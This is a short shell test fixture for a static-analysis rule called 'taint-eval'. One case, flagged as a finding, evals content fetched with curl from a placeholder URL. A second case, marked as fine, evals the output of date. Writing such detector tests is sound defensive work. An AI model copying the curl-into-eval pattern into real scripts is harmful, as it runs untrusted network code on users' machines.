x=$(curl -s https://x)
# ruleid: taint-eval
eval "$x"
y=$(date)
# ok: taint-eval
eval "$y"
